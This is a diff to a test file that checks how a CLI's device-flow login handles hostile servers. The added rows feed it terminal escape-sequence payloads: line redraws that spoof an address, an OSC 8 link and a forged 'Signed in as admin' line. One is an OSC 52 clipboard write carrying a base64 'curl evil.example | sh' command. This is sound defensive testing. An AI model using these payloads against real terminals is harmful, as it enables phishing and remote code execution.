@@ -10,11 +10,18 @@
  * The CLI's HTTP request timeout is node-http's default, 30 s: the rows where
  * a server never answers take over half a minute and run only with
  * `CLI_FAULTS=full`.
+ *
+ * The hostile-content rows (issue 20) put escape sequences and foreign hosts
+ * in what the server says; every row checks that no control character other
+ * than a line break reaches stdout or stderr, and what was opened (a stand-in
+ * xdg-open on PATH) and QR-encoded.
  */
 import { closeBeforeAnswer, drip, type Fault, type FaultServer, type Handler, hang, huge, json, redirect, reply, resetMidBody, seq, startFaultServer } from "@devflow/dev-server/faults"
 import * as fs from "node:fs"
+import * as path from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { devflow, type Run, tempDir } from "./helpers.js"
+import { qrInPrompt } from "./qr.js"
 
 const FULL = process.env.CLI_FAULTS === "full"
 /** a stack frame line, as Node prints them */
@@ -41,6 +48,13 @@ const tokenBody = (origin: string, fields: Readonly<Record<string, unknown>> = {
 const tokens = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) => json(tokenBody(origin, fields))
 const once = (fault: Fault | Handler, then: Handler = tokens()): Handler => seq(fault, then)
 const html = "<!DOCTYPE html><html><body>Maintenance</body></html>"
+const ESC = "\x1b"
+/** an erase-line and carriage return, then a line of the attacker's choosing */
+const redraw = (line: string) => `${ESC}[2K\r${line}`
+const EVIL = "https://evil.example/device"
+/** anything a terminal acts on, except the line breaks the CLI writes itself */
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/
 
 interface Row {
   readonly fault: string
@@ -52,6 +66,14 @@ interface Row {
   /** expected seconds to the outcome, without the CLI's start-up */
   readonly seconds: number
   readonly slow?: boolean
+  /** flags for `devflow login` instead of `--no-qr` */
+  readonly flags?: ReadonlyArray<string>
+  /** a stand-in xdg-open on PATH (Linux only) that records the address it is given and exits with this code */
+  readonly opener?: number
+  /** commands run after the login on the same cache directory */
+  readonly then?: ReadonlyArray<ReadonlyArray<string>>
+  /** what else must hold */
+  readonly check?: (result: Result) => void
 }
 
 const rows: ReadonlyArray<Row> = [
@@ -227,6 +249,119 @@ const rows: ReadonlyArray<Row> = [
     seconds: 1
   },
   {
+    fault: "verification_uri that erases the line and draws another address",
+    where: "device endpoint",
+    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ verification_uri: redraw(`  To sign in, open ${EVIL}`) }) }),
+    exit: 6,
+    seconds: 0,
+    check: ({ run }) => {
+      expect(run.stderr).toMatch(/verification_uri/)
+      expect(run.stderr + run.stdout).not.toMatch(/evil/)
+    }
+  },
+  {
+    fault: "user_code carrying an OSC 8 hyperlink",
+    where: "device endpoint",
+    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ user_code: `${ESC}]8;;https://evil.example/${ESC}\\BCDF-GHJK${ESC}]8;;${ESC}\\` }) }),
+    exit: 6,
+    seconds: 0,
+    check: ({ run }) => expect(run.stderr).toMatch(/user_code/)
+  },
+  {
+    fault: "user_code carrying an OSC 52 clipboard write",
+    where: "device endpoint",
+    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ user_code: `BCDF-GHJK${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07` }) }),
+    exit: 6,
+    seconds: 0,
+    check: ({ run }) => expect(run.stderr + run.stdout).not.toMatch(/Y3VybC/)
+  },
+  {
+    fault: "error_description with escape sequences",
+    where: "token endpoint",
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: () => json({ error: "access_denied", error_description: `Denied.${redraw("Signed in as admin")}\u009b32m` }, { status: 400 })
+    }),
+    exit: 3,
+    seconds: 1,
+    check: ({ run }) => expect(run.stderr).toMatch(/Denied\. ?Signed in as admin/)
+  },
+  {
+    fault: "id_token name that rewrites the success line (then accounts, accounts --json)",
+    where: "token endpoint",
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: ({ origin }) => json(tokenBody(origin, { id_token: jwt({ iss: origin, sub: "fault-user", name: `${redraw("Signed in as admin")}\u009b31m` }) }))
+    }),
+    exit: 0,
+    seconds: 1,
+    then: [["accounts"], ["accounts", "--json"]],
+    check: ({ run, then }) => {
+      expect(run.stderr).toMatch(/^Signed in as Signed in as admin 31m \(profile/m)
+      expect(JSON.parse(run.stdout.trim().split("\n").at(-1)!).account.name).toBe("Signed in as admin 31m")
+      expect(then[0]!.code, then[0]!.stderr).toBe(0)
+      expect(then[0]!.stdout + then[0]!.stderr).toMatch(/Signed in as admin 31m/)
+      expect(then[1]!.code, then[1]!.stderr).toBe(0)
+      expect(then[1]!.stdout).toMatch(/"name":"Signed in as admin 31m"/)
+    }
+  },
+  {
+    fault: "verification_uri_complete on another host (QR code, --open)",
+    where: "device endpoint",
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ verification_uri_complete: `${EVIL}?user_code=BCDF-GHJK` }),
+      [TOKEN]: tokens()
+    }),
+    flags: ["--open"],
+    opener: 0,
+    exit: 0,
+    seconds: 1,
+    check: ({ opened, origin, run }) => {
+      // RFC 8628 §5.4: the page where the code is typed is the one vouched for
+      expect(qrInPrompt(run.stderr)).toBe(`${origin}/device`)
+      expect(opened).toBe(`${origin}/device`)
+      expect(run.stderr).toMatch(/Warning: .*evil\.example/)
+      expect(run.stderr).toMatch(/Opened the verification page/)
+    }
+  },
+  {
+    fault: "verification_uri on another host (QR code, --open)",
+    where: "device endpoint",
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ verification_uri: EVIL, verification_uri_complete: `${EVIL}?user_code=BCDF-GHJK` }),
+      [TOKEN]: tokens()
+    }),
+    flags: ["--open"],
+    opener: 0,
+    exit: 0,
+    seconds: 1,
+    check: ({ opened, run }) => {
+      expect(opened).toBeUndefined()
+      expect(run.stderr).not.toMatch(/Or scan this/)
+      expect(run.stderr).toMatch(/Warning: .*evil\.example/)
+      expect(run.stderr).not.toMatch(/Opened/)
+      expect(run.stderr.split("\n").filter((l) => /by hand/.test(l))).toHaveLength(1)
+    }
+  },
+  {
+    fault: "--open where xdg-open exits 3 (no method available)",
+    where: "device endpoint",
+    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens() }),
+    flags: ["--no-qr", "--open"],
+    opener: 3,
+    exit: 0,
+    seconds: 1,
+    check: ({ opened, origin, run }) => {
+      expect(opened).toBe(`${origin}/device`)
+      expect(run.stderr).not.toMatch(/Opened/)
+      expect(run.stderr.split("\n").filter((l) => /by hand/.test(l))).toHaveLength(1)
+    }
+  },
+  {
     fault: "accepts, never answers, once",
     where: "token endpoint",
     script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: once(hang) }),
@@ -248,6 +383,30 @@ interface Result {
   readonly otherHits: number
   /** from the first request the fault server saw to the process's exit (the whole run when none was seen) */
   readonly protocolMs: number
+  /** the fault server's origin (the issuer) */
+  readonly origin: string
+  /** what the stand-in xdg-open was given, if it ran */
+  readonly opened: string | undefined
+  readonly then: ReadonlyArray<Run>
+}
+
+/** A stand-in xdg-open: records its argument (atomically: the test may read the file at any time), then exits with `code`. */
+const fakeOpener = (dir: string, code: number) => {
+  const bin = path.join(dir, "bin")
+  fs.mkdirSync(bin)
+  fs.writeFileSync(
+    path.join(bin, "xdg-open"),
+    `#!/bin/sh\nprintf '%s' "$1" > "${dir}/opened.tmp" && mv "${dir}/opened.tmp" "${dir}/opened"\nexit ${code}\n`,
+    { mode: 0o755 }
+  )
+  return bin
+}
+
+/** The opener is started detached: give it a moment to leave its record. */
+const openedIn = async (dir: string): Promise<string | undefined> => {
+  const file = path.join(dir, "opened")
+  for (let i = 0; i < 20 && !fs.existsSync(file); i++) await new Promise((r) => setTimeout(r, 100))
+  return fs.existsSync(file) ? fs.readFileSync(file, "utf8") : undefined
 }
 
 let results: Promise<ReadonlyArray<Result | undefined>>
@@ -256,13 +415,24 @@ const runRow = async (row: Row): Promise<Result> => {
   const other = await startFaultServer({})
   const server: FaultServer | undefined = row.refused === true ? undefined : await startFaultServer(row.script(other.origin))
   const dir = tempDir("devflow-cli-faults-")
+  const tools = tempDir("devflow-cli-faults-tools-")
   try {
     const issuer = server?.origin ?? "http://127.0.0.2:9"
-    const run = await devflow(["login", "--issuer", issuer, "--client-id", "devflow-faults", "--no-qr", "--json", "--cache-dir", dir])
+    const env = {
+      // no colour and an unknown background, as on any pipe
+      COLORFGBG: undefined,
+      ...(row.opener === undefined ? {} : { PATH: `${fakeOpener(tools, row.opener)}${path.delimiter}${process.env.PATH}` })
+    }
+    const flags = row.flags ?? ["--no-qr"]
+    const run = await devflow(["login", "--issuer", issuer, "--client-id", "devflow-faults", ...flags, "--json", "--cache-dir", dir], { env })
     const exitedAt = Date.now()
     const first = server?.hits[0]?.at
-    return { run, otherHits: other.hits.length, protocolMs: first === undefined ? run.ms : exitedAt - first }
+    const opened = row.opener === undefined ? undefined : await openedIn(tools)
+    const then: Array<Run> = []
+    for (const args of row.then ?? []) then.push(await devflow([...args, "--cache-dir", dir], { env }))
+    return { run, otherHits: other.hits.length, protocolMs: first === undefined ? run.ms : exitedAt - first, origin: issuer, opened, then }
   } finally {
+    fs.rmSync(tools, { recursive: true, force: true })
     await server?.close()
     await other.close()
     fs.rmSync(dir, { recursive: true, force: true })
@@ -281,7 +451,8 @@ const pool = async <A>(n: number, jobs: ReadonlyArray<() => Promise<A>>): Promis
   return out
 }
 
-const runs = rows.map((row) => row.slow !== true || FULL)
+// the stand-in opener is an xdg-open
+const runs = rows.map((row) => (row.slow !== true || FULL) && (row.opener === undefined || process.platform === "linux"))
 
 beforeAll(() => {
   results = pool(4, rows.map((row, i) => () => (runs[i] ? runRow(row) : Promise.resolve(undefined))))
@@ -312,8 +483,15 @@ describe("CLI fault matrix: devflow login against hostile servers", () => {
   rows.forEach((row, i) => {
     const test = runs[i] ? it : it.skip
     test(`${i + 1}. ${row.fault} (${row.where}) → exit ${row.exit} in ${row.seconds} s`, { timeout: 240_000 }, async () => {
-      const { otherHits, protocolMs, run } = (await results)[i]!
+      const result = (await results)[i]!
+      const { otherHits, protocolMs, run } = result
       expect(run.signal, run.stderr).toBeNull()
+      for (const output of [run, ...result.then]) {
+        // nor escaped inside a JSON line, where a reader of the value would print it
+        expect(output.stdout, output.stderr).not.toMatch(/\\u00(?:[01][0-9a-f]|7f|[89][0-9a-f])/i)
+        expect(output.stdout + output.stderr).not.toMatch(CONTROL)
+      }
+      row.check?.(result)
       expect(run.code, run.stderr).toBe(row.exit)
       expect(run.ms, run.stderr).toBeGreaterThanOrEqual((row.seconds + STARTUP_S) * 1000 - 100)
       expect(protocolMs, run.stderr).toBeLessThanOrEqual((row.seconds + SLACK_S) * 1000)
